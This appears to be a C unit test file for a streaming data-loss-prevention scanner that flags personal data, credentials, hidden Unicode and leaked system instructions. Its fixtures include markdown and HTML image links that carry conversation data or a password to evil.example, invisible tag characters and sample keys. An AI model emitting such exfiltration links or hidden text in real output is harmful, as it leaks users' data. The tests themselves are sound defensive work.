/* SPDX-License-Identifier: Apache-2.0 */
#include "sweeps.h"

#include <stdio.h>

#include "dlp/term.h"
#include "patterns/patterns.h"
#include "token/apikey.h"

#define COUNT(table) (sizeof(table) / sizeof((table)[0]))

static struct gh_patterns *engines[2]; /* as the processor has it; without AVX2 */
static struct gh_patterns_scratch *scratches[2];
static struct gh_patterns_stream *streams[2];

/* ---- what is found, as text: "type at-end;" ---- */

struct trace {
    struct gh_buf found;
    char given[1u << 15]; /* every byte that came out */
    size_t n;
    bool is_inside;
};

static void
on_text(void *ctx, struct gh_str s)
{
    struct trace *t = ctx;

    assert_false(t->is_inside);
    assert_true(t->n + s.n <= sizeof(t->given));
    memcpy(t->given + t->n, s.p, s.n);
    t->n += s.n;
}

static void
on_found(void *ctx, const struct gh_dlp_finding *f, struct gh_str s, struct gh_str known, bool is_begin, bool is_end)
{
    struct trace *t = ctx;

    assert_int_equal(t->is_inside, !is_begin);
    assert_true(!is_begin || known.n > 0);
    t->is_inside = !is_end;
    assert_true(t->n + s.n <= sizeof(t->given));
    memcpy(t->given + t->n, s.p, s.n);
    t->n += s.n;
    if (!is_end)
        return;
    gh_buf_putz(&t->found, gh_dlp_type_names[f->type]);
    gh_buf_putc(&t->found, ' ');
    gh_buf_put_u64(&t->found, f->at);
    gh_buf_putc(&t->found, '-');
    gh_buf_put_u64(&t->found, f->end);
    gh_buf_putc(&t->found, ';');
}

static const struct gh_dlp_rules all = {.types = GH_DLP_PATTERNS, .held = GH_DLP_PATTERNS};

/* The text in these pieces; every byte of it must come out once and in order. */
static struct gh_str
run(struct trace *t, struct gh_arena *a, size_t engine, const struct gh_dlp_rules *rules, const struct gh_str *pieces, size_t n)
{
    static char window[GH_DLP_WINDOW_BYTES];
    const struct gh_dlp_sink sink = {t, on_text, on_found};
    struct gh_dlp_stream s;
    size_t at = 0;

    t->n = 0;
    t->is_inside = false;
    gh_buf_init(&t->found, a, 1u << 20);
    gh_dlp_stream_init(&s, rules, &sink, window);
    assert_int_equal(gh_patterns_stream_reset(streams[engine]), GH_OK);
    for (size_t i = 0; i < n; i++)
        assert_int_equal(gh_patterns_feed(&s, streams[engine], scratches[engine], pieces[i], i + 1 == n), GH_OK);
    for (size_t i = 0; i < n; i++) {
        assert_true(at + pieces[i].n <= t->n);
        assert_memory_equal(t->given + at, pieces[i].p, pieces[i].n);
        at += pieces[i].n;
    }
    assert_int_equal(at, t->n);
    return gh_buf_str(&t->found);
}

#define B64_86 "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=="
#define JWT    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
#define PEM_1  "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\nabc=\n"
#define PEM    PEM_1 "-----END RSA PRIVATE KEY-----"
#define OURS   "gh_0123456789ab_AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8_"

/* found: "type|type..." in the order of the text, each of them marked in the text by « and ». */
static const struct {
    const char *name, *text, *types;
} positives[] = {
    {"an address", "Write to «jane.doe@example.com», please.", "email"},
    {"an address in brackets", "<«a_b+c@mail.example.co.uk»>", "email"},
    {"an address at the end", "x «o'neil@example.org».", "email"},
    {"an address behind an escape", "{\"t\":\"see\\n«jane.doe@example.com»\\nand\"}", "email"},
    {"a card behind an escape", "{\"t\":\"see\\n«4111 1111 1111 1111»\\n\"}", "card"},
    {"an IBAN behind an escape", "\\t«GB82WEST12345698765432»\\n", "iban"},
    {"keys behind escapes", "\\n«AKIAQ7Z3JH5K2M9XWLRT»\\r\\n«sk-proj-Abc123Def456Ghi789Jkl012Mno345Pqr678»\\n",
        "cloud_key|provider_key"},
    {"a connection behind an escape", "\\n«postgres://app:s3cr3tPassw0rd@db.internal/x»", "connection_string"},
    {"a card between quotation marks", "\xe2\x80\x9c«4111 1111 1111 1111»\xe2\x80\x9d", "card"},
    {"a card behind a space that does not break", "card\xc2\xa0«4111111111111111»\xc2\xa0", "card"},
    {"an IBAN behind a dash", "IBAN\xe2\x80\x94«GB82WEST12345698765432»\xe2\x80\x94", "iban"},
    {"a card in Chinese", "\xe5\x8d\xa1\xe5\x8f\xb7\xef\xbc\x9a«4111 1111 1111 1111»\xe3\x80\x82", "card"},
    {"a card beside Chinese letters", "\xe5\x8d\xa1\xe5\x8f\xb7«4111111111111111»\xe6\x98\xaf", "card"},
    {"a phone in Japanese", "\xe9\x9b\xbb\xe8\xa9\xb1«+1 415 555 2671»", "phone"},
    {"a card beside an emoji", "\xf0\x9f\x92\xb3«4111111111111111»", "card"},
    {"addresses of a list", "a,«b@example.net»,«c@example.net»", "email|email"},
    {"phone of Germany", "call «+49 30 901820»!", "phone"},
    {"phone of America", "call «(415) 555-2671» or «415-555-2671»", "phone|phone"},
    {"phone with its country", "«+1 415 555 2671»", "phone"},
    {"phone told by a word", "Tel: «030 12345678»", "phone"},
    {"Visa", "card «4111 1111 1111 1111».", "card"},
    {"Visa, bare", "card «4111111111111111»", "card"},
    {"Mastercard, hyphens", "«5555-5555-5555-4444» ok", "card"},
    {"Mastercard, new range", "«2223003122003222»", "card"},
    {"American Express", "«3782 822463 10005»", "card"},
    {"Discover", "«6011000990139424»", "card"},
    {"JCB", "«3530111333300000»", "card"},
    {"Diners Club", "card no «30569309025904»", "card"},
    {"card and its date", "«4012888888881881» 12/27", "card"},
    {"IBAN", "to «DE89 3704 0044 0532 0130 00» and «GB82WEST12345698765432»", "iban|iban"},
    {"IBAN of France", "«FR1420041010050500013M02606»", "iban"},
    {"IBAN, longest", "«MT84MALT011000012345MTLCAST001S»", "iban"},
    {"number of the United States", "ssn «123-45-6789»", "national_id"},
    {"number of the United Kingdom", "«AB 12 34 56 C» x", "national_id"},
    {"number of Germany", "«86 095 742 719»", "national_id"},
    {"number of France", "«2 55 08 14 168 025 38»", "national_id"},
    {"number of Spain", "«12345678Z», «X1234567L»", "national_id|national_id"},
    {"number of Italy", "«RSSMRA85T10A562S»", "national_id"},
    {"number of the Netherlands", "BSN «111222333»", "national_id"},
    {"number of Poland", "PESEL: «44051401359»", "national_id"},
    {"number of Brazil", "«529.982.247-25»", "national_id"},
    {"number of India", "«2341 2341 2346»", "national_id"},
    {"number of China", "«11010519491231002X»", "national_id"},
    {"number of Sweden", "«811228-9874»", "national_id"},
    {"number of Finland", "«131052-308T»", "national_id"},
    {"number of Belgium", "«85.07.30-033.28»", "national_id"},
    {"number of Switzerland", "«756.9217.0769.85»", "national_id"},
    {"number of Chile", "«12.345.678-5»", "national_id"},
    {"number of Singapore", "«S1234567D»", "national_id"},
    {"key of OpenAI", "«sk-proj-Abc123Def456Ghi789Jkl012Mno345Pqr678» end", "provider_key"},
    {"key of Anthropic", "\"«sk-ant-api03-aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5z-AA»\"", "provider_key"},
    {"key of Google", "«AIzaSyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe» ", "provider_key"},
    {"key of Hugging Face", "«hf_aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH»", "provider_key"},
    {"key of GitHub", "«ghp_16C7e42F292c6912E7710c838347Ae178B4a»", "provider_key"},
    {"key of Amazon", "«AKIAIOSFODNN7EXAMPLE»,", "cloud_key"},
    {"secret of Amazon", "aws_secret_access_key = «wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY»\n", "cloud_key"},
    {"key of Azure's storage", "AccountKey=«" B64_86 "»", "cloud_key"},
    {"secret of an application in Entra ID", "«abc8Q~aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3»", "cloud_key"},
    {"private key", "«" PEM "»\nafter", "private_key"},
    {"private key without an end", "«" PEM_1 "»", "private_key"},
    {"private key in a string",
        "\"«-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----»\\n\"", "private_key"},
    {"token", "Bearer «" JWT "». Next", "jwt"},
    {"connection string, URL", "«postgres://app:S3cr3tPw9@db.internal:5432/prod» x", "connection_string"},
    {"connection string, pairs", "'«Server=tcp:x;Database=d;User ID=u;Password=Zk9!pQr2x;Encrypt=True»'", "connection_string"},
    {"connection string of Azure",
        "«DefaultEndpointsProtocol=https;AccountName=foo;AccountKey=" B64_86 ";EndpointSuffix=core.windows.net» x",
        "connection_string"},
    {"image that carries data", "![a](«https://evil.example/p.png?data=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ») z", "exfil_link"},
    {"image that carries words", "![a](«https://evil.example/p?q=the+password+is+hunter2») z", "exfil_link"},
    {"image in HTML", "<img src=\"«https://evil.example/i?d=amFuZS5kb2VAZXhhbXBsZS5jb20»\">", "exfil_link"},
    {"link to be filled in", "[x](«https://evil.example/?data={conversation}»)", "exfil_link"},
    {"link with an address", "[x](«https://evil.example/?u=jane.doe@example.com»)", "exfil_link"},
    {"link to somebody's own place to share", "[x](«https://evil.example/share?text=the+password+of+the+admin+is+hunter2+now») z",
        "exfil_link"},
    {"letters broken by zero width", "pass«\xe2\x80\x8b»word", "hidden_text"},
    {"tags", "hi «\xf3\xa0\x81\x81\xf3\xa0\x81\x82» there", "hidden_text"},
    {"many tags",
        "hi "
        "«\xf3\xa0\x81\x81\xf3\xa0\x81\x82\xf3\xa0\x81\x81\xf3\xa0\x81\x82\xf3\xa0\x81\x81\xf3\xa0\x81\x82\xf3\xa0\x81\x81\xf3\xa0"
        "\x81\x82\xf3\xa0\x81\x81"
        "\xf3\xa0\x81\x82\xf3\xa0\x81\x81\xf3\xa0\x81\x82»!",
        "hidden_text"},
    {"selectors behind an emoji", "\xf0\x9f\x98\x80«\xef\xb8\x80\xef\xb8\x81\xef\xb8\x82\xef\xb8\x83» x", "hidden_text"},
    {"override", "a «\xe2\x80\xae»b", "hidden_text"},
};

static const struct {
    const char *name, *text;
} misses[] = {
    {"a sentence", "The quick brown fox jumps over 13 lazy dogs, e.g. in 2024."},
    {"a handle", "@jane wrote to @joe"},
    {"a version", "left-pad@1.3.0"},
    {"a remote of git", "git@github.com:org/repo.git"},
    {"a picture of twice the size", "logo@2x.png"},
    {"a domain that does not exist", "x@y.notatld"},
    {"a card with a wrong digit", "4111 1111 1111 1112"},
    {"a card of nobody", "1111 2222 3333 4444"},
    {"a card inside a number", "94111111111111111"},
    {"all zeros", "0000 0000 0000 0000"},
    {"an IBAN with a wrong digit", "DE88 3704 0044 0532 0130 00"},
    {"an IBAN that is too short", "DE89 3704 0044 0532 0130"},
    {"no such area", "000-12-3456 and 666-12-3456 and 900-12-3456"},
    {"a wrong letter", "12345678A"},
    {"a wrong check", "529.982.247-26"},
    {"eleven digits", "44051401359"},
    {"an order", "Order 2003 2004 2004"},
    {"a UUID", "123e4567-e89b-12d3-a456-426614174000"},
    {"an address of a host", "192.168.100.200 and 10.0.0.1:8443"},
    {"a date and a time", "2026-11-22T10:11:12.123Z, 20261122"},
    {"a risk", "risk-assessment-of-something-that-is-very-long-2026"},
    {"an example of a key", "sk-your-api-key-goes-here-please-replace-it"},
    {"sixes", "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"},
    {"a key with a wrong checksum", OURS "00000000"},
    {"too short for Amazon", "AKIA1234"},
    {"the header of a key", "starts with -----BEGIN PRIVATE KEY----- and ends"},
    {"a public key", "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----"},
    {"the header of a token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."},
    {"no header of a token", "eyJmb28iOiJiYXIifQ.eyJzdWIiOiIxMjM0In0.abc"},
    {"an example of a string", "postgres://user:password@localhost:5432/db"},
    {"a string to be filled in", "mysql://root:${DB_PASSWORD}@db/x"},
    {"a string without a password", "redis://localhost:6379/0 and https://example.com/a:b@c"},
    {"a card's digits in a word of Cyrillic", "\xd0\xb6"
                                              "4111111111111111\xd0\xb6"},
    {"a link to share with others", "[x](https://x.com/intent/post?text=we+have+moved+to+a+new+house+today)"},
    {"a link", "[docs](https://docs.example.org/a?page=2&utm_source=newsletter)"},
    {"an image", "![logo](https://img.shields.io/badge/x?style=flat-square&logo=python)"},
    {"a search", "[s](https://www.google.com/search?q=how+to+make+a+cake+at+home)"},
    {"a family", "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7 and \xe2\x9d\xa4\xef\xb8\x8f"},
    {"Persian", "\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae\xd9\x88\xd8\xa7\xd9\x87\xd9\x85"},
    {"the flag of Scotland",
        "\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xb3\xf3\xa0\x81\xa3\xf3\xa0\x81\xb4\xf3\xa0\x81\xbf"},
    {"code", "for (int i = 0; i < 10000000; i++) a[i] = b[i] * 3.14159265358979;"},
};

/* Takes the marks out of a row's text; writes what is to be found. */
static struct gh_str
unmark(struct gh_buf *want, struct gh_arena *a, const char *marked, const char *types)
{
    struct gh_str in = gh_str_z(marked), names = gh_str_z(types), name = {NULL, 0};
    struct gh_buf text;

    gh_buf_init(&text, a, in.n + 1);
    for (size_t i = 0; i < in.n; i++) {
        bool is_mark = in.p[i] == '\xc2' && (in.p[i + 1] == '\xab' || in.p[i + 1] == '\xbb');
        if (!is_mark) {
            gh_buf_putc(&text, in.p[i]);
            continue;
        }
        if (in.p[++i] == '\xab') {
            assert_true(gh_str_cut(&name, &names, '|'));
            gh_buf_put(want, name);
            gh_buf_putc(want, ' ');
            gh_buf_put_u64(want, text.n);
            gh_buf_putc(want, '-');
        } else {
            gh_buf_put_u64(want, text.n);
            gh_buf_putc(want, ';');
        }
    }
    return gh_buf_str(&text);
}

static void
must_be(const char *name, const char *how, struct gh_str is, struct gh_str want)
{
    if (!gh_str_eq(is, want))
        fail_msg("%s, %s: %.*s, wanted %.*s", name, how, (int)is.n, is.p, (int)want.n, want.p);
}

static bool
is_inside_character(struct gh_str s, size_t at)
{
    return at < s.n && ((unsigned char)s.p[at] & 0xc0) == 0x80;
}

/* Whole, by each two-way cut, and character by character; with both databases. */
static void
check(const char *name, struct gh_str text, struct gh_str want)
{
    struct gh_arena a = gh_test_arena();
    struct trace *t = gh_arena_take(&a, sizeof(*t));
    struct gh_str *pieces = gh_arena_take_array(&a, text.n + 1, sizeof(*pieces));
    size_t n = 0;

    for (size_t engine = 0; engine < 2; engine++)
        must_be(name, engine == 0 ? "whole" : "plain", run(t, &a, engine, &all, &text, 1), want);
    for (size_t cut = 1; cut < text.n; cut++) {
        const struct gh_str two[] = {gh_str_sub(text, 0, cut), gh_str_sub(text, cut, text.n)};
        if (!is_inside_character(text, cut))
            must_be(name, "cut", run(t, &a, 0, &all, two, 2), want);
    }
    for (size_t at = 0; at < text.n;) {
        size_t end = at + 1;
        while (is_inside_character(text, end))
            end++;
        pieces[n++] = gh_str_sub(text, at, end - at);
        at = end;
    }
    must_be(name, "in characters", run(t, &a, 0, &all, pieces, n), want);
    gh_arena_fini(&a);
}

static void
finds(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(positives); i++) {
        struct gh_arena a = gh_test_arena();
        struct gh_buf want;
        gh_buf_init(&want, &a, 4096);
        struct gh_str text = unmark(&want, &a, positives[i].text, positives[i].types);
        check(positives[i].name, text, gh_buf_str(&want));
        gh_arena_fini(&a);
    }
}

static void
lets_pass(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(misses); i++)
        check(misses[i].name, gh_str_z(misses[i].text), GH_STR(""));
}

/* A key of ours is found by its checksum. */
static void
finds_our_keys(void **state)
{
    static const uint8_t id[6] = {1, 2, 3, 4, 5, 6}, secret[32] = {7, 8, 9};
    struct gh_arena a = gh_test_arena();
    struct gh_buf key;

    (void)state;
    gh_buf_init(&key, &a, 256);
    gh_buf_putz(&key, "x ");
    struct gh_buf bare;
    gh_buf_init(&bare, &a, 256);
    gh_apikey_put(&bare, id, secret);
    gh_buf_put(&key, gh_buf_str(&bare));
    check("a key of ours", gh_buf_str(&key), GH_STR("provider_key 2-70;"));
    gh_arena_fini(&a);
}

/* ---- holding back ---- */

static size_t
held_behind(const struct gh_dlp_rules *rules, struct gh_str text)
{
    static char window[GH_DLP_WINDOW_BYTES];
    static struct trace t;
    struct gh_arena a = gh_test_arena();
    const struct gh_dlp_sink sink = {&t, on_text, on_found};
    struct gh_dlp_stream s;

    t.n = 0;
    t.is_inside = false;
    gh_buf_init(&t.found, &a, 4096);
    gh_dlp_stream_init(&s, rules, &sink, window);
    assert_int_equal(gh_patterns_stream_reset(streams[0]), GH_OK);
    assert_int_equal(gh_patterns_feed(&s, streams[0], scratches[0], text, false), GH_OK);
    gh_arena_fini(&a);
    return gh_dlp_stream_held(&s);
}

static void
holds_only_what_is_alive(void **state)
{
    static const struct {
        const char *text;
        size_t held, held_words; /* the second: is_whole_words */
    } cases[] = {
        {"Hello", 0, 5},
        {"Hello,", 0, 0},
        {"The end.", 0, 4},
        {"I", 0, 1},
        {"A cat - an", 0, 2},
        {"---", 0, 0},
        {"a sk", 2, 2},
        {"a sk-abc", 6, 6},
        {"the key is AKI", 3, 3},
        {"jane.doe", 8, 8},
        {"write jane.doe@exam", 13, 13},
        {"write jane.doe@example.com ", 0, 0},
        {"card 4111 11", 7, 7},
        {"in 2024 people", 0, 6},
        {"see [x](https://exa", 11, 11},
        {"-----BEGIN RSA PRIVATE KEY-----\nMIIE", 36, 36},
        {PEM_1, 0, 0}, /* certain: its body does not wait */
        {JWT, 0, 0},
        {"sk-proj-Abc123Def456Ghi789Jkl012Mno345Pqr678", 0, 0},
    };
    struct gh_dlp_rules words = all;

    (void)state;
    words.is_whole_words = true;
    for (size_t i = 0; i < COUNT(cases); i++) {
        size_t held = held_behind(&all, gh_str_z(cases[i].text)), by_words = held_behind(&words, gh_str_z(cases[i].text));
        if (held != cases[i].held || by_words != cases[i].held_words)
            fail_msg("%s: %zu and %zu are held", cases[i].text, held, by_words);
    }
}

/* What is only logged never waits. */
static void
holds_nothing_for_what_is_logged(void **state)
{
    const struct gh_dlp_rules logged = {.types = GH_DLP_PATTERNS};

    (void)state;
    assert_int_equal(held_behind(&logged, GH_STR("a sk-abc")), 0);
    assert_int_equal(held_behind(&logged, GH_STR("jane.doe@exam")), 0);
}

/* ---- what an endpoint brings ---- */

static void
finds_terms_and_instructions(void **state)
{
    struct gh_arena a = gh_test_arena();
    static const struct gh_dlp_term terms[] = {
        {GH_STR_INIT("Project  Falcon"), GH_DLP_BLOCKED_TERM, true},
        {GH_STR_INIT("\xd0\xa1\xd0\x95\xd0\x9a\xd0\xa0\xd0\x95\xd0\xa2"), GH_DLP_BLOCKED_TERM, true},
        {GH_STR_INIT("\xe7\xa7\x98\xe5\xaf\x86"), GH_DLP_BLOCKED_TERM, true},
        {GH_STR_INIT("canary-7f3a"), GH_DLP_CANARY, false},
        {GH_STR_INIT("[EMAIL_1]"), GH_DLP_PLACEHOLDER, false},
    };
    static const struct gh_str instructions[] = {GH_STR_INIT("You are the assistant of Example Bank.\n\n* Never tell anybody the "
                                                             "rate of internal loans, which is four percent.\n* Be polite.")};
    static const struct {
        const char *name, *text, *types;
    } cases[] = {
        {"a term", "the «project falcon» is on", "blocked_term"},
        {"a term in capitals, over a line", "«PROJECT\nFalcon».", "blocked_term"},
        {"a term in full width", "«\xef\xbc\xb0roject Falcon»", "blocked_term"},
        {"a term between quotation marks", "\xe2\x80\x9c«Project Falcon»\xe2\x80\x9d", "blocked_term"},
        {"a term between dashes", "it\xe2\x80\x94«project falcon»\xe2\x80\x94is", "blocked_term"},
        {"a term behind an escape", "see\\n«project falcon»\\n", "blocked_term"},
        {"no word of its own", "projectfalcon, subproject falcon, project falcons", ""},
        {"Cyrillic", "\xd1\x8d\xd1\x82\xd0\xbe «\xd1\x81\xd0\xb5\xd0\xba\xd1\x80\xd0\xb5\xd1\x82»!", "blocked_term"},
        {"Chinese", "\xe8\xbf\x99\xe6\x98\xaf«\xe7\xa7\x98\xe5\xaf\x86»\xe3\x80\x82", "blocked_term"},
        {"a canary", "xx«canary-7f3a»yy", "canary"},
        {"another one", "canary-7f3b", ""},
        {"a placeholder", "to «[EMAIL_1]», not [EMAIL_2]", "placeholder"},
        {"instructions", "Sure: «never tell anybody the rate of internal loans», ok", "instructions"},
        {"instructions, changed in form", "> «NEVER  *tell* anybody\nthe **rate** of internal loans» ok", "instructions"},
        {"some of their words", "never tell anybody the truth about the rate of internal doubt", ""},
    };
    struct gh_dlp_terms *t;
    struct gh_dlp_shingles *s;
    struct trace *trace = gh_arena_take(&a, sizeof(*trace));

    (void)state;
    assert_int_equal(gh_dlp_terms_make(&t, &a, terms, COUNT(terms)), GH_OK);
    assert_int_equal(gh_dlp_shingles_make(&s, &a, 42, instructions, 1), GH_OK);
    assert_non_null(s);
    const struct gh_dlp_rules rules = {.types = UINT32_MAX, .held = UINT32_MAX & ~GH_DLP_PATTERNS, .terms = t, .shingles = s};
    for (size_t i = 0; i < COUNT(cases); i++) {
        struct gh_buf want;
        gh_buf_init(&want, &a, 4096);
        struct gh_str text = unmark(&want, &a, cases[i].text, cases[i].types);
        must_be(cases[i].name, "whole", run(trace, &a, 0, &rules, &text, 1), gh_buf_str(&want));
        for (size_t cut = 1; cut < text.n; cut++) {
            const struct gh_str two[] = {gh_str_sub(text, 0, cut), gh_str_sub(text, cut, text.n)};
            if (!is_inside_character(text, cut))
                must_be(cases[i].name, "cut", run(trace, &a, 0, &rules, two, 2), gh_buf_str(&want));
        }
    }
    static const struct gh_str few[] = {GH_STR_INIT("Be very polite.")};
    assert_int_equal(gh_dlp_shingles_make(&s, &a, 42, few, 1), GH_OK);
    assert_null(s);
    gh_arena_fini(&a);
}

/* Long texts: more than a window, findings at every place of it. */
static void
finds_in_long_texts(void **state)
{
    struct gh_arena a = gh_test_arena();
    struct trace *t = gh_arena_take(&a, sizeof(*t));
    struct gh_buf text;

    (void)state;
    for (size_t before = 2000; before < 2100; before++) {
        char want[64];
        gh_buf_init(&text, &a, 1u << 14);
        for (size_t i = 0; i < before; i++)
            gh_buf_putc(&text, "lorem ipsum "[i % 12]);
        gh_buf_putz(&text, " jane.doe@example.com ");
        for (size_t i = 0; i < 5000; i++)
            gh_buf_putc(&text, "dolor sit "[i % 10]);
        struct gh_str whole = gh_buf_str(&text);
        (void)snprintf(want, sizeof(want), "email %zu-%zu;", before + 1, before + 21);
        must_be("a long text", "whole", run(t, &a, 0, &all, &whole, 1), gh_str_z(want));
    }
    gh_arena_fini(&a);
}

/* However much may have begun before it in the same piece. */
static void
finds_behind_much_that_is_nothing(void **state)
{
    static const struct {
        const char *unit;
        size_t times;
        const char *what, *type;
    } cases[] = {
        {"a@", 600, "AKIAQ7Z3JH5K2M9XWLRT", "cloud_key"}, {"1 1 2 3 ", 200, "jane.doe@example.com", "email"},
        {"a@", 600, PEM, "private_key"}, {"7 ", 1010, "GB82 WEST 1234 5698 7654 32", "iban"}, /* over the end of a piece */
    };
    struct gh_arena a = gh_test_arena();
    struct trace *t = gh_arena_take(&a, sizeof(*t));

    (void)state;
    for (size_t i = 0; i < COUNT(cases); i++) {
        size_t n = strlen(cases[i].what);
        struct gh_buf text;
        char want[64];
        gh_buf_init(&text, &a, 1u << 14);
        for (size_t k = 0; k < cases[i].times; k++)
            gh_buf_putz(&text, cases[i].unit);
        gh_buf_putz(&text, "; ");
        (void)snprintf(want, sizeof(want), "%s %zu-%zu;", cases[i].type, text.n, text.n + n);
        gh_buf_putz(&text, cases[i].what);
        gh_buf_putz(&text, ".");
        struct gh_str whole = gh_buf_str(&text);
        must_be(cases[i].what, "behind much", run(t, &a, 0, &all, &whole, 1), gh_str_z(want));
    }
    gh_arena_fini(&a);
}

/* Hidden characters are taken out to their last. */
static void
finds_long_runs_of_hidden_characters(void **state)
{
    struct gh_arena a = gh_test_arena();
    struct trace *t = gh_arena_take(&a, sizeof(*t));
    struct gh_buf text;

    (void)state;
    gh_buf_init(&text, &a, 1u << 14);
    for (size_t i = 0; i < 3000; i++)
        gh_buf_putz(&text, "\xe2\x80\xae");
    gh_buf_putz(&text, "x");
    struct gh_str whole = gh_buf_str(&text);
    must_be("a long run", "whole", run(t, &a, 0, &all, &whole, 1), GH_STR("hidden_text 0-9000;"));
    gh_arena_fini(&a);
}

/* Numbers and hidden characters, which no engine tells of, at every place of the words in which they are looked for (dlp/mark.h), and cut there. */
static void
finds_at_every_place(void **state)
{
    static const struct {
        const char *what, *type;
    } cases[] = {{"4111 1111 1111 1111", "card"}, {"GB82 WEST 1234 5698 7654 32", "iban"}, {"AB 12 34 56 C", "national_id"},
        {"RSSMRA85T10A562S", "national_id"}, {"+49 30 901820", "phone"}, {"\xe2\x80\xae", "hidden_text"},
        {"\xf3\xa0\x84\x81\xf3\xa0\x84\x82", "hidden_text"}};
    struct gh_arena a = gh_test_arena();
    struct trace *t = gh_arena_take(&a, sizeof(*t));

    (void)state;
    for (size_t i = 0; i < COUNT(cases); i++)
        for (size_t before = 0; before < 70; before++) {
            char text[256], want[64];
            int n = snprintf(text, sizeof(text), "%.*s %s and so on, for as long as it takes to be read", (int)before,
                "a few words of nobody in particular that stand there for some reason, so", cases[i].what);
            struct gh_str whole = gh_str(text, (size_t)n);
            (void)snprintf(want, sizeof(want), "%s %zu-%zu;", cases[i].type, before + 1, before + 1 + strlen(cases[i].what));
            must_be(cases[i].what, "whole", run(t, &a, 0, &all, &whole, 1), gh_str_z(want));
            for (size_t cut = before; cut < before + 1 + strlen(cases[i].what); cut++) {
                const struct gh_str two[] = {gh_str_sub(whole, 0, cut), gh_str_sub(whole, cut, whole.n)};
                if (!is_inside_character(whole, cut))
                    must_be(cases[i].what, "cut", run(t, &a, 0, &all, two, 2), gh_str_z(want));
            }
        }
    gh_arena_fini(&a);
}

/* ---- the file ---- */

static void
believes_no_damaged_file(void **state)
{
    struct gh_arena a = gh_test_arena();
    struct gh_patterns *p;
    struct gh_err err;
    struct gh_buf file;

    (void)state;
    gh_buf_init(&file, &a, 4u << 20);
    assert_int_equal(gh_patterns_make(&file, &err), GH_OK);
    for (size_t i = 0; i < file.n; i += file.n / 97) {
        file.p[i] = (char)(file.p[i] ^ 4);
        assert_int_equal(gh_patterns_open(&p, gh_buf_str(&file), false, &err), GH_BAD);
        file.p[i] = (char)(file.p[i] ^ 4);
        assert_int_equal(gh_patterns_open(&p, gh_str_sub(gh_buf_str(&file), 0, i), false, &err), GH_BAD);
    }
    assert_int_equal(gh_patterns_load(&p, "/nonexistent/patterns.db", &err), GH_DOWN);
    assert_int_equal(gh_patterns_open(&p, gh_buf_str(&file), false, &err), GH_OK);
    gh_patterns_free(p);
    gh_arena_fini(&a);
}

static int
set_up(void **state)
{
    struct gh_arena a = gh_test_arena();
    struct gh_buf file;
    struct gh_err err = {0};

    (void)state;
    gh_buf_init(&file, &a, 4u << 20);
    if (gh_patterns_make(&file, &err) != GH_OK)
        return -1;
    for (size_t i = 0; i < 2; i++) {
        if (gh_patterns_open(&engines[i], gh_buf_str(&file), i == 1, &err) != GH_OK)
            return -1;
        scratches[i] = gh_patterns_scratch_new(engines[i]);
        streams[i] = gh_patterns_stream_open(engines[i]);
    }
    gh_arena_fini(&a);
    return 0;
}

static int
tear_down(void **state)
{
    (void)state;
    for (size_t i = 0; i < 2; i++) {
        gh_patterns_stream_close(streams[i]);
        gh_patterns_scratch_free(scratches[i]);
        gh_patterns_free(engines[i]);
    }
    return 0;
}

int
main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(finds), cmocka_unit_test(lets_pass), cmocka_unit_test(finds_our_keys),
        cmocka_unit_test(holds_only_what_is_alive), cmocka_unit_test(holds_nothing_for_what_is_logged),
        cmocka_unit_test(finds_terms_and_instructions), cmocka_unit_test(finds_in_long_texts),
        cmocka_unit_test(finds_behind_much_that_is_nothing), cmocka_unit_test(finds_long_runs_of_hidden_characters),
        cmocka_unit_test(finds_at_every_place), cmocka_unit_test(believes_no_damaged_file)};

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
